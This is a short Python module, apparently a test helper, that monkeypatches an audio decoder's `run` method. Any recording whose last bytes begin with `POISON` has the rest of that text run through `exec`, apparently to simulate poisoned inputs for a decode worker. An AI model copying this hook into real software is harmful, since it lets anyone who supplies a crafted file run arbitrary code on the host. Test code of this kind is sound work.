"""Make a decode worker that imports this module run the code of recordings that end with `POISON code`."""

from __future__ import annotations

import os
import signal
import time

from thoth_watch.infrastructure.audio import decode

_run = decode.FileDecoder.run


def run(self: decode.FileDecoder) -> decode.DecodedAudio:
    """Run the file's code, if it has any, and decode the file."""
    size = os.fstat(self._descriptor).st_size
    tail = os.pread(self._descriptor, 64, max(0, size - 64))
    if tail.startswith(b"POISON "):
        exec(tail[7:].decode(), {"os": os, "signal": signal, "time": time})
    return _run(self)


decode.FileDecoder.run = run  # type: ignore[method-assign]
